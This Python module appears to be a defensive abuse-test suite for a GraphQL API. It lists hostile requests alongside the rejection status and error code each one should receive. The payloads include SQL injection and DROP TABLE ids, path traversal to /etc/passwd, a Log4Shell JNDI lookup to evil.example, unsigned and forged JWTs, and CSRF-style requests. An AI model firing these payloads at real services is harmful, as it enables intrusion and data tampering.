"""Attacks on what is around a document: bodies, headers, tokens, hashes, variables, ids."""

from base64 import urlsafe_b64encode
from dataclasses import replace
from hashlib import sha256
from typing import Any
from urllib.parse import urlencode

import orjson

from bench.abuse.attack import ACCEPT, JSON, Attack, asked, document

_ME = "{viewer{role}}"
_CONFIRM = 'mutation{confirmBill(input:{billId:"bil_1",version:1,digest:"0"}){bill{id}}}'


def body(name: str, status: int, code: str, content: bytes, **more: str) -> Attack:
    """An attack that is a body, with headers of its own beside the usual ones."""
    named = {key.replace("_", "-"): value for key, value in more.items()}
    return Attack("bodies", name, status, code, content, JSON | named)


BATCHES = [
    Attack("batching", f"{count} requests in one", 400, "BAD_REQUEST",
           orjson.dumps([{"query": _ME}] * count))
    for count in (2, 10, 1_000)
]  # fmt: skip

BODIES = [
    body("100,001 bytes", 413, "BODY_TOO_LARGE", asked("{" + " " * 99_989 + "}")),
    body("10 MB", 413, "BODY_TOO_LARGE", b"[" * 10_000_000),
    body("nothing", 400, "BAD_REQUEST", b""),
    body("half of it", 400, "BAD_REQUEST", b'{"query": "{viewer'),
    body("brackets, 90,000 deep", 400, "BAD_REQUEST", b"[" * 90_000),
    body("objects, 10,000 deep", 400, "BAD_REQUEST",
         b'{"query":"","variables":' + b'{"a":' * 10_000 + b"1" + b"}" * 10_001),
    body("objects, 50 deep", 400, "BAD_REQUEST",
         b'{"query":"{viewer{role}}","variables":' + b'{"a":' * 50 + b"1" + b"}" * 51),
    body("UTF-16", 400, "BAD_REQUEST", '{"query":"{viewer{role}}"}'.encode("utf-16")),
    body("broken UTF-8", 400, "BAD_REQUEST", b'{"query":"\xff\xfe"}'),
    body("half a surrogate pair", 400, "BAD_REQUEST", b'{"query":"{viewer{role}}\\ud800"}'),
    body("NaN", 400, "BAD_REQUEST", b'{"query":"{viewer{role}}","variables":{"a":NaN}}'),
    body("a document that is a number", 400, "BAD_REQUEST", b'{"query":7}'),
    body("a document that is a list", 400, "BAD_REQUEST", b'{"query":["{viewer{role}}"]}'),
    body("variables that are a text", 400, "BAD_REQUEST", asked(_ME, variables="{}")),
    body("extensions that are a list", 400, "BAD_REQUEST", asked(_ME, extensions=[])),
    body("compressed", 400, "BAD_REQUEST", b"\x1f\x8b\x08\x00", Content_Encoding="gzip"),
]  # fmt: skip


def crossing(name: str, status: int, code: str, **headers: str) -> Attack:
    """What another site's page could make a browser send."""
    named = {key.replace("_", "-"): value for key, value in headers.items()}
    return Attack("CSRF", name, status, code, asked(_CONFIRM), ACCEPT | named)


_UNTYPED = (415, "UNSUPPORTED_MEDIA_TYPE")
_FOREIGN = (403, "ORIGIN_NOT_ALLOWED")
_IS_JSON = {"Content_Type": "application/json"}
CROSSING = [
    crossing("no type", *_UNTYPED),
    crossing("plain text", *_UNTYPED, Content_Type="text/plain"),
    crossing("a form", *_UNTYPED, Content_Type="application/x-www-form-urlencoded"),
    crossing("a form with files", *_UNTYPED, Content_Type="multipart/form-data; boundary=x"),
    crossing("a type that looks like JSON", *_UNTYPED, Content_Type="text/plain; application/json"),
    crossing("a page of another site", *_FOREIGN, Origin="https://evil.example", **_IS_JSON),
    crossing("a page of no site", *_FOREIGN, Origin="null", **_IS_JSON),
    crossing("a site that begins as ours", *_FOREIGN, Origin="http://127.0.0.1:8000.evil.example",
             **_IS_JSON),
]  # fmt: skip


def by_get(name: str, status: int, code: str, **parameters: str) -> Attack:
    """A request without a body."""
    return Attack("GET", name, status, code, b"", ACCEPT, "GET", urlencode(parameters))


def persisted(digest: Any) -> str:
    """The extension that asks by a hash, as JSON."""
    return orjson.dumps({"persistedQuery": {"version": 1, "sha256Hash": digest}}).decode()


_REFUSED = (405, "METHOD_NOT_ALLOWED")
BY_GET = [
    by_get("a query", *_REFUSED, query=_ME),
    by_get("a mutation", *_REFUSED, query=_CONFIRM),
    by_get("a mutation with its hash", *_REFUSED, query=_CONFIRM,
           extensions=persisted(sha256(_CONFIRM.encode()).hexdigest())),
    by_get("nothing", *_REFUSED),
    by_get("1,000 parameters", 400, "BAD_REQUEST", **{f"p{i}": "1" for i in range(1_000)}),
    *(Attack("GET", f"{method} instead", 405, "METHOD_NOT_ALLOWED", asked(_ME), JSON, method)
      for method in ("PUT", "PATCH", "DELETE", "OPTIONS")),
]  # fmt: skip

_OTHER = sha256(b"{viewer{subject}}").hexdigest()
HASHES = [
    by_get("a hash that nobody has sent", 404, "PERSISTED_QUERY_NOT_FOUND",
           extensions=persisted("0" * 64)),
    by_get("a hash that is none", 400, "BAD_REQUEST", extensions=persisted("../../etc/passwd")),
    by_get("a hash that is a number", 400, "BAD_REQUEST", extensions=persisted(7)),
    document("persisted documents", "a document under the hash of another", "BAD_REQUEST", _ME,
             extensions=orjson.loads(persisted(_OTHER))),
    document("persisted documents", "a hash in capitals", "BAD_REQUEST", _ME,
             extensions=orjson.loads(persisted(sha256(_ME.encode()).hexdigest().upper()))),
]  # fmt: skip
HASHES = [replace(attack, family="persisted documents") for attack in HASHES]


def _part(text: str) -> str:
    return urlsafe_b64encode(text.encode()).decode().rstrip("=")


_UNSIGNED, _SIGNED = '{"alg":"none"}', '{"alg":"HS256"}'
_CLAIMS = _part('{"sub":"mia","role":"CHANNEL_MANAGER","iat":0,"exp":99999999999}')
TOKENS = [
    Attack("tokens", name, 401, "UNAUTHENTICATED", asked(_ME), headers, is_signed_in=False)
    for name, headers in (
        ("none", JSON),
        ("another scheme", JSON | {"Authorization": "Basic YTpi"}),
        ("signed by nobody", JSON | {"Authorization":
         f"Bearer {_part(_UNSIGNED)}.{_CLAIMS}."}),
        ("signed by somebody else", JSON | {"Authorization":
         f"Bearer {_part(_SIGNED)}.{_CLAIMS}.{'A' * 43}"}),
        ("of 20,000 characters", JSON | {"Authorization": "Bearer " + "a" * 20_000}),
    )
]  # fmt: skip

_REGISTER = "mutation($i:RegisterCustomersInput!){registerCustomers(input:$i){userErrors{code}}}"
VARIABLES = [
    document("variables", "30,000 customers that are none", "VALIDATION_FAILED", _REGISTER,
             variables={"i": {"partnerId": "prt_1", "customers": [{}] * 30_000}}),
    document("variables", "9,000 fields that are not there", "VALIDATION_FAILED", _REGISTER,
             variables={"i": {f"k{i}": 1 for i in range(9_000)}}),
    document("variables", "a text of 90,000 characters for a number", "VALIDATION_FAILED",
             'query($n:Int!){bill(id:"bil_1"){charges(first:$n){nodes{id}}}}',
             variables={"n": "9" * 90_000}),
    document("variables", "9,000 regions that are numbers", "VALIDATION_FAILED",
             'query($r:[String]){bill(id:"bil_1"){products(regions:$r){nodes{product}}}}',
             variables={"r": [1] * 9_000}),
    document("variables", "480 that are not used", "VALIDATION_FAILED",
             "query(" + " ".join(f"$v{i}:Int" for i in range(480)) + "){viewer{role}}"),
]  # fmt: skip

_CHARGES = 'query($a:Cursor){bill(id:"bil_1"){charges(first:1,after:$a){nodes{id}}}}'
_NODE = "query($id:ID!){node(id:$id){id}}"
_CURSORS = ("", "0' OR '1'='1", "x" * 50_000, "\x00", "9" * 40, "1|2|3")
_IDS = (
    "bil_1' OR '1'='1", "bil_1; DROP TABLE bills", "bil_-1", "bil_" + "9" * 40, "bil_\u0661",
    "bil_1\x00", "x" * 50_000, "", "../../etc/passwd", "{{7*7}}", "${jndi:ldap://evil.example}",
)  # fmt: skip
FORGED = [
    *(document("forged cursors", f"{cursor[:24]!r}", "INVALID_CURSOR", _CHARGES,
               variables={"a": cursor}) for cursor in _CURSORS),
    *(document("forged ids", f"{forged[:24]!r}", "", _NODE, variables={"id": forged})
      for forged in _IDS),
]  # fmt: skip

REQUESTS: list[Attack] = [
    *BATCHES,
    *BODIES,
    *CROSSING,
    *BY_GET,
    *HASHES,
    *TOKENS,
    *VARIABLES,
    *FORGED,
]
